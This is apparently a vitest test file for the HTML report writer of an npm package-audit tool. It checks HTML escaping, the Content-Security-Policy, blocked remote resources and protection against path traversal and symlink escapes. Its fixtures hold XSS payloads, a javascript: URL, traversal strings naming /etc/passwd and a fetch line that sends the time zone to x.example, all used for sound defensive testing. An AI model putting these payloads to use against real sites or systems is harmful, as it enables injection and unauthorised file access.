import { existsSync } from 'node:fs';
import { mkdtemp, readdir, readFile, rm, symlink, mkdir } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { SCHEMA_VERSION, type Report } from '../../src/report/model.js';
import { escapeHtml, HTML_RENDER_LIMITS, pairPagePaths, withPairPages, writeHtmlReport } from '../../src/report/reporters/html.js';
import type { Finding, PairDiff } from '../../src/types.js';
import { flagshipReport } from './report-fixtures.js';

const HOSTILE_PATH = 'lib/<script>alert(1)</script>.js';
const HOSTILE_EVIDENCE = 'fetch("https://x.example/" + Intl.DateTimeFormat().resolvedOptions().timeZone) <img src=x onerror=alert(2)>';

function finding(over: Partial<Finding> = {}): Finding {
  return {
    ruleId: 'timezone-gate',
    category: 'geo-gating',
    severity: 'high',
    from: '1.0.0',
    to: '1.1.0-beta.1+build.5',
    file: HOSTILE_PATH,
    line: 3,
    message: 'reads the time zone <b>and</b> compares it',
    evidence: HOSTILE_EVIDENCE,
    decoded: ['Asia/Shanghai <svg onload=alert(3)>', 'hidden\u202Eoverride\u200B'],
    fingerprint: 'fp1',
    ...over,
  };
}

function unified(file: string, removed: string[], added: string[]): string {
  return [
    `diff --git a/${file} b/${file}`,
    `--- a/${file}`,
    `+++ b/${file}`,
    `@@ -1,${removed.length} +1,${added.length} @@`,
    ...removed.map((l) => `-${l}`),
    ...added.map((l) => `+${l}`),
    '',
  ].join('\n');
}

function fixture(): { report: Report; diffs: PairDiff[] } {
  const v = ['1.0.0', '1.1.0-beta.1+build.5', '2.0.0'];
  const diffs: PairDiff[] = [
    {
      from: v[0]!,
      to: v[1]!,
      stats: { filesChanged: 2, linesAdded: 6002, linesRemoved: 1 },
      files: [
        {
          path: HOSTILE_PATH,
          status: 'modified',
          linesAdded: 2,
          linesRemoved: 1,
          unified: unified(HOSTILE_PATH, ['var a = 1;'], ['<script>alert("diff")</script>', '<img src=x onerror=alert(4)>']),
        },
        {
          path: 'dist/huge.js',
          status: 'modified',
          linesAdded: 6000,
          linesRemoved: 0,
          // The stated count is over the per-file limit even though the text is short.
          unified: unified('dist/huge.js', [], ['x();']),
        },
      ],
    },
    {
      from: v[1]!,
      to: v[2]!,
      stats: { filesChanged: 1, linesAdded: 0, linesRemoved: 0 },
      files: [{ path: 'logo.png', status: 'added', linesAdded: 0, linesRemoved: 0, omitted: 'binary file' }],
    },
  ];
  const f1 = finding();
  const f2 = finding({ severity: 'low', ruleId: 'dependency-added', category: 'dependency-change', file: 'package.json', line: null, decoded: undefined, fingerprint: 'fp2' });
  const report: Report = {
    schemaVersion: SCHEMA_VERSION,
    tool: { name: 'npm-strata', version: '0.1.0' },
    package: '@scope/<img src=x onerror=alert(5)>',
    range: '>=1.0.0 <3',
    generatedAt: '2026-07-02T10:00:00.000Z',
    command: 'strata audit "@scope/pkg@>=1.0.0 <3" --html out',
    order: 'semver',
    registry: 'https://registry.npmjs.org/',
    versions: [
      {
        version: v[0]!,
        publishedAt: '2026-01-02T03:04:05.678Z',
        integrity: 'sha512-aaaa',
        shasum: 'abc',
        tarball: 'https://registry.npmjs.org/@scope/pkg/-/pkg-1.0.0.tgz',
        publisher: '<script>alert(6)</script>',
        files: [
          { path: 'index.js', size: 10, sha256: 'x', kind: 'js' },
          { path: 'logo.png', size: 10, sha256: 'y', kind: 'other', skipped: 'not JavaScript' },
        ],
        packaging: { code: 'package', jsFiles: 1, codeSplit: false },
      },
      {
        version: v[1]!,
        publishedAt: '2026-03-01T00:00:00.000Z',
        integrity: 'sha512-bbbb',
        shasum: 'def',
        tarball: 'javascript:alert(7)',
        deprecated: 'do not use <img src=x onerror=alert(8)>',
        outOfOrder: true,
        files: [],
        packaging: { code: 'none', jsFiles: 0, codeSplit: false },
      },
      { version: v[2]!, publishedAt: null, integrity: null, shasum: null, tarball: null, files: [], packaging: { code: 'none', jsFiles: 0, codeSplit: false } },
    ],
    pairs: [
      { from: v[0]!, to: v[1]!, stats: diffs[0]!.stats, files: [], findings: [f1, f2] },
      { from: v[1]!, to: v[2]!, stats: diffs[1]!.stats, files: [], findings: [] },
    ],
    findings: [f1, f2],
    lifecycle: [
      { fingerprint: 'fp1', ruleId: 'timezone-gate', category: 'geo-gating', severity: 'high', introducedIn: v[1]!, removedIn: v[2]!, presentIn: [v[1]!] },
      { fingerprint: 'fp2', ruleId: 'dependency-added', category: 'dependency-change', severity: 'low', introducedIn: null, removedIn: null, presentIn: v },
    ],
    summary: {
      versions: 3,
      pairs: 2,
      linesAdded: 6002,
      linesRemoved: 1,
      findingsBySeverity: { info: 0, low: 1, medium: 0, high: 1, critical: 0 },
    },
  };
  return { report, diffs };
}

/** Every href/src of link, script and img tags, and of anchors. */
function attributes(html: string, tag: string, attr: string): string[] {
  const re = new RegExp(`<${tag}\\b[^>]*\\b${attr}="([^"]*)"`, 'gi');
  return [...html.matchAll(re)].map((m) => m[1]!);
}

async function listFiles(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true });
  return entries.filter((e) => e.isFile()).map((e) => path.relative(dir, path.join(e.parentPath, e.name)).split(path.sep).join('/')).sort();
}

describe('writeHtmlReport', () => {
  let tmp: string;
  let out: string;

  beforeEach(async () => {
    tmp = await mkdtemp(path.join(os.tmpdir(), 'strata-html-'));
    out = path.join(tmp, 'report');
  });
  afterEach(async () => {
    await rm(tmp, { recursive: true, force: true });
  });

  it('writes the index and one page per pair, and links them', async () => {
    const { report, diffs } = fixture();
    const written = await writeHtmlReport(report, diffs, out);
    expect(written).toEqual(['pairs/1.0.0..1.1.0-beta.1+build.5.html', 'pairs/1.1.0-beta.1+build.5..2.0.0.html', 'index.html']);
    // Nothing else, and no temporary files left behind.
    expect(await listFiles(out)).toEqual([...written].sort());
    // The report given is not changed: the links are on a copy.
    expect(report.pairs.map((p) => p.page)).toEqual([undefined, undefined]);
    const linked = withPairPages(report);
    expect(linked.pairs.map((p) => p.page)).toEqual(written.slice(0, 2));

    const index = await readFile(path.join(out, 'index.html'), 'utf8');
    for (const p of linked.pairs) {
      expect(index).toContain(`href="${escapeHtml(p.page!)}"`);
      expect(existsSync(path.join(out, p.page!))).toBe(true);
    }
    // Every relative link from every page resolves to a file that exists.
    for (const rel of written) {
      const html = await readFile(path.join(out, rel), 'utf8');
      for (const href of attributes(html, 'a', 'href')) {
        if (href.startsWith('#') || /^https?:/.test(href)) continue;
        const target = path.resolve(path.dirname(path.join(out, rel)), decodeURI(href.split('#')[0]!.replaceAll('&amp;', '&')));
        expect(existsSync(target), `${rel} links to ${href}`).toBe(true);
      }
    }
    const page = await readFile(path.join(out, written[0]!), 'utf8');
    expect(page).toContain('href="../index.html"');
  });

  it('changes nothing it is given: a deeply frozen report and diffs render as they do unfrozen', async () => {
    const deepFreeze = <T>(value: T): T => {
      if (value && typeof value === 'object' && !Object.isFrozen(value)) {
        Object.freeze(value);
        for (const v of Object.values(value)) deepFreeze(v);
      }
      return value;
    };
    const plain = flagshipReport();
    const frozen = deepFreeze(flagshipReport());
    const before = JSON.stringify(frozen);
    // Modules are strict: a write to a frozen object throws here instead of passing silently.
    const written = await writeHtmlReport(frozen.report, frozen.diffs, out);
    expect(JSON.stringify(frozen)).toBe(before);
    const again = path.join(tmp, 'plain');
    await writeHtmlReport(plain.report, plain.diffs, again);
    for (const rel of written) expect(await readFile(path.join(out, rel), 'utf8')).toBe(await readFile(path.join(again, rel), 'utf8'));
  });

  it('shows versions, pairs, findings and lifecycle on the index', async () => {
    const { report, diffs } = fixture();
    await writeHtmlReport(report, diffs, out);
    const index = await readFile(path.join(out, 'index.html'), 'utf8');
    expect(index).toContain('2026-01-02 03:04:05 UTC');
    expect(index).toContain('published out of order');
    expect(index).toContain('deprecated');
    expect(index).toContain('sha512-aaaa');
    expect(index).toContain('<a href="https://registry.npmjs.org/@scope/pkg/-/pkg-1.0.0.tgz"');
    expect(index).toContain('1 analysed, 1 skipped');
    expect(index).toContain('strata audit &quot;@scope/pkg@&gt;=1.0.0 &lt;3&quot; --html out');
    expect(index).toContain('before range');
    expect(index).toContain('still present');
    expect(index).toContain('timezone-gate');
    expect(index).toContain(`${escapeHtml(HOSTILE_PATH)}:3`);
    // Severity is said in words, not only in colour.
    expect(index).toMatch(/<span class="sev sev-high">high/);
    // Hidden characters are made visible.
    expect(index).toContain('⟦U+202E⟧');
    expect(index).toContain('⟦U+200B⟧');
    expect(index).not.toContain('\u202E');
    // A javascript: tarball URL is not a link.
    expect(index).not.toMatch(/href="javascript:/i);
  });

  it('escapes everything that comes from the package', async () => {
    const { report, diffs } = fixture();
    const written = await writeHtmlReport(report, diffs, out);
    for (const rel of written) {
      const html = await readFile(path.join(out, rel), 'utf8');
      expect(html, rel).not.toMatch(/<script/i);
      expect(html, rel).not.toMatch(/<img/i);
      expect(html, rel).not.toMatch(/<svg onload/i);
      expect(html, rel).not.toMatch(/<b>and/);
      expect(html, rel).toContain(
        `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'">`,
      );
      // No resources from the network: link, script and img tags reference nothing remote.
      for (const [tag, attr] of [['link', 'href'], ['script', 'src'], ['img', 'src'], ['iframe', 'src'], ['source', 'src']] as const) {
        for (const v of attributes(html, tag, attr)) expect(v, `${rel}: <${tag} ${attr}>`).not.toMatch(/^(https?:)?\/\//i);
      }
      expect(html).not.toMatch(/@import|url\(\s*['"]?(https?:)?\/\//i);
    }
    // The diff content, rendered by diff2html, is escaped too.
    const page = await readFile(path.join(out, written[0]!), 'utf8');
    expect(page).toContain('d2h-file-side-diff');
    expect(page).toMatch(/&lt;(<ins>)?script/);
    expect(page).toContain('<span class="d2h-file-name">lib/&lt;script&gt;alert(1)&lt;/script&gt;.js</span>');
  });

  it('shows a placeholder instead of a diff that is too large, and the reason for omitted ones', async () => {
    const { report, diffs } = fixture();
    const written = await writeHtmlReport(report, diffs, out);
    const first = await readFile(path.join(out, written[0]!), 'utf8');
    expect(HTML_RENDER_LIMITS.linesPerFile).toBeLessThan(6000);
    expect(first).toMatch(/Too large to render \(6,000 lines changed/);
    // The small file of the same pair is rendered, the huge one is not.
    expect(first.match(/class="d2h-file-wrapper"/g)?.length).toBe(1);
    const second = await readFile(path.join(out, written[1]!), 'utf8');
    expect(second).toContain('Diff not shown: binary file');
  });

  it('keeps to the per-page budget', async () => {
    const { report, diffs } = fixture();
    const written = await writeHtmlReport(report, diffs, out, { limits: { linesPerPage: 2 } });
    const first = await readFile(path.join(out, written[0]!), 'utf8');
    expect(first).toContain('Too large to render on this page (3 lines changed');
    expect(first).not.toContain('class="d2h-file-wrapper"');
  });

  it('never writes outside the output folder, whatever the version strings say', async () => {
    const { report, diffs } = fixture();
    const evil = ['../../../escaped', '/etc/passwd', '..\\..\\win', '..', 'a/../../b', 'C:\\x', '1.0.0\u0000x', 'ünï/cøde'];
    report.pairs = evil.map((from, i) => ({ from, to: evil[(i + 1) % evil.length]!, stats: { filesChanged: 0, linesAdded: 0, linesRemoved: 0 }, files: [], findings: [] }));
    const written = await writeHtmlReport(report, diffs, out);
    for (const rel of written) {
      expect(rel).toMatch(/^(pairs\/[A-Za-z0-9._+-]+\.html|index\.html)$/);
      expect(path.resolve(out, rel).startsWith(out + path.sep)).toBe(true);
    }
    // The temporary folder holds the report folder and nothing else.
    expect(await readdir(tmp)).toEqual(['report']);
    expect(await listFiles(out)).toEqual([...written].sort());
    expect(new Set(written).size).toBe(written.length);
  });

  it('refuses to write through a symbolic link that leaves the output folder', async () => {
    const elsewhere = path.join(tmp, 'elsewhere');
    await mkdir(elsewhere);
    await mkdir(out);
    await symlink(elsewhere, path.join(out, 'pairs'), 'dir');
    const { report, diffs } = fixture();
    await expect(writeHtmlReport(report, diffs, out)).rejects.toMatchObject({ code: 'ESTRATA_BAD_INPUT' });
    expect(await readdir(elsewhere)).toEqual([]);
  });
});

describe('pairPagePaths', () => {
  it('keeps semver characters, replaces the rest and stays unique', () => {
    expect(pairPagePaths([{ from: '1.0.0-rc.1+b', to: '1.0.0' }])).toEqual(['pairs/1.0.0-rc.1+b..1.0.0.html']);
    const [a, b] = pairPagePaths([
      { from: 'a/b', to: '1' },
      { from: 'a_b', to: '1' },
    ]);
    expect(a).toBe('pairs/a_b..1.html');
    expect(b).toBe('pairs/a_b..1-2.html');
    const [long] = pairPagePaths([{ from: 'x'.repeat(500), to: '1' }]);
    expect(long!.length).toBeLessThan(160);
  });
});

describe('escapeHtml', () => {
  it('escapes the five HTML specials', () => {
    expect(escapeHtml(`<a href="x" title='y'>&</a>`)).toBe('&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;');
  });
});
